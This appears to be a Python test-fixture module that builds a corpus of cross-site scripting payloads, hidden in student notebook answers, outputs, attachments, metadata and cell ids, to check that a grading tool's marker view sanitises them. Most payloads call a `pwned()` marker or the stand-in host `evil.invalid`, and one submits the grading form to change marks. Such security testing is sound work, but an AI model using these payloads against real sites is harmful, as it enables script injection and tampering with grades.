"""What a student could write, draw, attach or call something to make the marker's browser do it.

Each payload calls `pwned()`, asks a server that must hear nothing, or goes elsewhere. It stands in one place of an
otherwise right hand-in: the written answer, a cell's outputs as the kernel sends them, attachments, metadata, ids.
"""

import base64
import json

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

EVIL = "http://evil.invalid/"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
LAUGHS = "".join(
    f'<g id="a{n}">' + f'<use xlink:href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 9)
)
DRAWN = base64.b64encode(SVG.format("<script>parent.pwned()</script>").encode()).decode()

ANSWERS = {
    "script": "<script>pwned()</script>",
    "script between lines": "Proof.\n\n<script>\npwned()\n</script>\n\nQ.E.D.",
    "script that marks": (
        "<script>fetch('/'+location.pathname.slice(1),{method:'POST',body:new FormData(document.forms[0])})"
        ";pwned()</script>"
    ),
    "onerror": "<img src=x onerror=pwned()>",
    "onload": "<svg onload=pwned()></svg>",
    "body onload": "<body onload=pwned()>",
    "details ontoggle": "<details open ontoggle=pwned()>x</details>",
    "autofocus": "<input autofocus onfocus=pwned()>",
    "animation": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=pwned()>b</b>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "base": f"<base href={EVIL}>",
    "iframe": f"<iframe src={EVIL}></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "object": "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "embed": f"<embed src={EVIL}>",
    "form": f"<form action={EVIL}><input name=x></form><script>document.forms[0].submit()</script>",
    "closing everything": "</div></section></form></main></body><script>pwned()</script>",
    "closing a comment": "--><script>pwned()</script><!--",
    "style import": f"<style>@import '{EVIL}';</style>",
    "style background": f"<p style='background:url({EVIL})'>p</p>",
    "stylesheet": f"<link rel=stylesheet href={EVIL}>",
    "prefetch": f"<link rel=prefetch href={EVIL}><link rel=dns-prefetch href={EVIL}>",
    "picture elsewhere": f"![p]({EVIL}p.png)",
    "picture by reference": f"![p][r]\n\n[r]: {EVIL}p.png",
    "picture in HTML": f"<img src={EVIL}p.png srcset='{EVIL} 2x'>",
    "video": f"<video src={EVIL}v poster={EVIL}p autoplay></video>",
    "link": "[me](javascript:pwned()) <javascript:pwned()>",
    "link with quotes": '[me](http://a"onmouseover="pwned())',
    "link in disguise": "[me](&#x6A;avascript:pwned())",
    "data link": "[me](data:text/html,<script>pwned()</script>)",
    "mathematics in HTML": "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=pwned()&gt;'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "template": "{{ 7 * 7 }}{% raw %}<script>pwned()</script>{% endraw %}",
    "latex href": r"$\href{javascript:pwned()}{click}$",
    "latex text": r"$\text{<script>pwned()</script>}$ $$\text{<img src=x onerror=pwned()>}$$",
    "latex html": r"$\htmlData{a=b}{x}\style{background:url(http://evil.invalid/)}{y}\unicode{x3C}$",
    "latex environment": "\\begin{align}<img src=x onerror=pwned()>\\end{align}",
    "latex without end": r"$" + r"\frac{" * 400 + "$",
    "code": "```html\n</code></pre><script>pwned()</script>\n```",
    "code language": "```x\"onclick=pwned()//\ncode\n```\n\n```mermaid\n<img src=x onerror=pwned()>\n```",
    "table": "| <img src=x onerror=pwned()> |\n|:-:|\n| <script>pwned()</script> |",
    "names of fields": "<input id=score-q3-why name=score-q3-why value=4><button name=then>",
    "heading": "## 9. Mine (100 points)\n\n<script>pwned()</script>",
    "surrogates and controls": "\u202e<\u0000script>pwned()</script>\u2028\ufeff",
    "very long": "<script>pwned()</script>" * 5000,
}  # fmt: skip

OUTPUTS = {
    "HTML": {"text/html": "<script>pwned()</script><img src=x onerror=pwned()>"},
    "HTML like a figure": {
        "text/html": '<figure><img onload=pwned() src="data:image/svg+xml,%3Csvg onload=%27pwned()%27/%3E"></figure>'
    },
    "JavaScript": {"application/javascript": "pwned()", "text/plain": "x"},
    "Markdown": {"text/markdown": "<script>pwned()</script>"},
    "LaTeX": {"text/latex": r"$\text{<script>pwned()</script>}$"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>pwned()</script>"}},
    "plain": {"text/plain": "</pre><script>pwned()</script>"},
    "SVG with a script": {"image/svg+xml": SVG.format("<script>pwned()</script>")},
    "SVG with an event": {"image/svg+xml": SVG.format('<rect width="9" height="9" onload="pwned()"/>')},
    "SVG with a page": {
        "image/svg+xml": SVG.format(
            "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='pwned()'/></foreignObject>"
        )
    },
    "SVG from elsewhere": {"image/svg+xml": SVG.format(f'<image xlink:href="{EVIL}"/><use href="{EVIL}#x"/>')},
    "SVG with a style": {"image/svg+xml": SVG.format(f"<style>@import url({EVIL});</style>")},
    "SVG without end": {"image/svg+xml": SVG.format('<g id="a0"><path d="M0 0"/></g>' + LAUGHS)},
    "SVG with entities": {"image/svg+xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]>' + SVG.format("&a;")},
    "PNG that is a page": {"image/png": base64.b64encode(b"<script>pwned()</script>").decode()},
    "PNG with quotes": {"image/png": 'AAAA" onerror="pwned()'},
    "PNG without end": {
        "image/png": base64.b64encode(
            b"\x89PNG\r\n\x1a\n" + bytes([0, 0, 0, 13]) + b"IHDR" + b"\0\1\x86\xa0" * 2 + bytes(9)
        ).decode()
    },
    "a kind of its own": {'image/png" onerror="pwned()': "AAAA", "text/plain": "x"},
}  # fmt: skip

ATTACHMENTS = {
    "SVG attached": {"a.png": {"image/svg+xml": DRAWN}},
    "page attached": {"a.png": {"text/html": base64.b64encode(b"<script>pwned()</script>").decode()}},
    "kind with quotes": {"a.png": {'image/png"onerror="pwned()': "AAAA"}},
    "content with quotes": {"a.png": {"image/png": 'AAAA"onerror="pwned()'}},
    "attachments of another form": {"a.png": ["<script>pwned()</script>"]},
}

METADATA = {
    "names in metadata": {"name": "<script>pwned()</script>", "tags": ["<script>pwned()</script>", '"onload=pwned()']},
    "nbgrader's own": {"nbgrader": {"grade_id": "<script>pwned()</script>", "points": "<img src=x onerror=pwned()>",
                                    "comment": "<script>pwned()</script>", "schema_version": 3}},
}  # fmt: skip

CODE = {
    "name of an exception": "raise type('<script>pwned()</script>|\\x1b[2J\\n|', (Exception,), {})('<img src=x onerror=pwned()>')",
    "printed": "print('</pre><script>pwned()</script>\\x1b]8;;http://evil.invalid/\\x07x')",
    "in the code": "'</code></pre><script>pwned()</script>'",
}


def payloads():
    """All names."""
    return [
        *(f"answer: {name}" for name in ANSWERS),
        *(f"output: {name}" for name in OUTPUTS),
        *(f"attachment: {name}" for name in ATTACHMENTS),
        *(f"metadata: {name}" for name in METADATA),
        *(f"code: {name}" for name in CODE),
        "cell id",
    ]


def hand_in(solved, names):
    """A right hand-in with some payloads, each in a cell of its own; the first answer is the marked one."""
    nb = nbformat.from_dict(json.loads(json.dumps(solved)))
    answer = next(c for c in nb.cells if c.cell_type == "markdown" and _is_answer(c))
    code = next(n for n, c in enumerate(nb.cells) if c.cell_type == "code" and _is_answer(c))
    for name in names:
        cell = _cell(name)
        if name == next((n for n in names if n.startswith(("answer", "attachment"))), None):
            answer.update({key: cell[key] for key in ("source", "attachments") if key in cell})
        nb.cells.insert(code, cell)
    nb.metadata.update({"title": "<script>pwned()</script>", "widgets": {"x": "<script>pwned()</script>"}})
    return nb


def _cell(name):
    """A cell with one payload."""
    place, _, key = name.partition(": ")
    if place == "answer":
        return new_markdown_cell(ANSWERS[key])
    if place == "output":
        return new_code_cell(f"from IPython.display import display\ndisplay({OUTPUTS[key]!r}, raw=True)")
    if place == "attachment":
        cell = new_markdown_cell("![a](attachment:a.png)")
        return nbformat.from_dict(cell | {"attachments": ATTACHMENTS[key]})
    if place == "metadata":
        return nbformat.from_dict(new_markdown_cell("a cell") | {"metadata": METADATA[key]})
    if place == "code":
        return new_code_cell(CODE[key])
    return nbformat.from_dict(new_markdown_cell("a cell") | {"id": '"><script>pwned()</script>'})


def _is_answer(cell):
    """Whether a student writes in this cell."""
    return cell.metadata.get("nbgrader", {}).get("solution")


def stored(nb, names):
    """The graded notebook as it would be if neither reading nor running had taken anything away."""
    for number, cell in enumerate(nb.cells):
        if any(name.startswith("metadata") for name in names):
            cell.metadata.update(METADATA["names in metadata"])
        if "cell id" in names:
            cell.id = f'{number}"><script>pwned()</script>'
        if cell.cell_type == "code" and cell.source.startswith("from IPython.display"):
            data = next(d for d in OUTPUTS.values() if repr(d) in cell.source)
            about = {"image/png": {"width": '1" onload="pwned()'}}
            cell.outputs = [new_output("display_data", data=data, metadata=about)]
